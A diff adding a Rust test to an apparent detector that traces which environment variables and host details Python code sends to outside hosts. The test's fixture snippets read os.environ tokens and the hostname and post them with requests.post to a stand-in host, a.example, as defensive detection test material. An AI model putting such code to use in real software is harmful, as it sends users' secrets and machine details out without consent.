@@ -64,6 +64,27 @@ fn what_is_sent_is_followed_through_variables_helpers_and_callbacks() {
 }
 
 #[test]
+fn what_lies_beside_a_member_is_not_in_it() {
+    let head = "import os\nimport socket\nimport requests\n\n";
+    let post = |data: &str| format!("    requests.post('https://a.example/', data={data})\n");
+    let filled = "def run(app):\n    app.state.host = socket.gethostname()\n    app.state.tokens.append(os.environ['T'])\n";
+    for (data, expected) in [
+        ("app.state.other", ""),
+        ("app.state.host", "host-name-python -> a.example"),
+        ("app.state.tokens", "$T -> a.example"),
+        ("app.other", ""),
+        ("app.state", "$T, host-name-python -> a.example"),
+        ("getattr(app.state, 'other', None)", ""),
+        ("getattr(app.state, 'host', None)", "host-name-python -> a.example"),
+        ("getattr(app.state, 'other', os.environ['D'])", "$D -> a.example"),
+        ("getattr(app.state, name)", "$T, host-name-python -> a.example"),
+        ("getattr(app, 'state').host", "host-name-python -> a.example"),
+    ] {
+        assert_eq!(sent("acme.py", &format!("{head}{filled}{}", post(data))), expected, "{data}");
+    }
+}
+
+#[test]
 fn a_helper_is_looked_at_for_each_of_its_callers() {
     let code = "import os\nimport requests\n\ndef post(url, data):\n    requests.post(url, data=data)\n\npost('https://a.example/', os.environ['A'])\npost('https://b.example/', os.environ['B'])\n";
     assert_eq!(sent("acme.py", code), "$A -> a.example; $B -> b.example");
